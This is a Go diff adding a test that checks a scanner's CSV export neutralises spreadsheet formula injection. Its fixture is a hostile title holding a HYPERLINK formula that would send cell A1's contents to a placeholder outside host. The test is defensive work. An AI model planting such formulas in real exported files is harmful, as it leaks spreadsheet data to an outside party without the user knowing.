@@ -2,6 +2,7 @@ package cli
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -81,5 +82,40 @@ func TestScanTableAndCSV(t *testing.T) {
 	}
 	if code := Main([]string{"scan"}, &out, &errb); code != 2 {
 		t.Fatalf("no paths: exit %d, want 2", code)
+	}
+}
+
+func TestScanCSVNeutralisesFormulas(t *testing.T) {
+	demo := demoDir(t)
+	name := filepath.Join(demo, "01-release.txt")
+	b, err := os.ReadFile(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := `=HYPERLINK("http://example.invalid/?x="&A1,"source")`
+	text := strings.Replace(string(b), "title: Lake Ombra water unsafe for 4,200 households, Ombra Watch tests show", "title: "+hostile, 1)
+	if text == string(b) {
+		t.Fatal("the demo release's title changed: update this test")
+	}
+	os.WriteFile(name, []byte(text), 0o644)
+	code, stdout, stderr := run("scan", "--csv", demo)
+	if code != ExitOK {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if strings.HasPrefix(cell, "=") {
+				t.Errorf("a spreadsheet would run %q", cell)
+			}
+			found = found || strings.HasPrefix(cell, "'=HYPERLINK(")
+		}
+	}
+	if !found {
+		t.Errorf("the hostile title is not in the CSV:\n%s", stdout)
 	}
 }
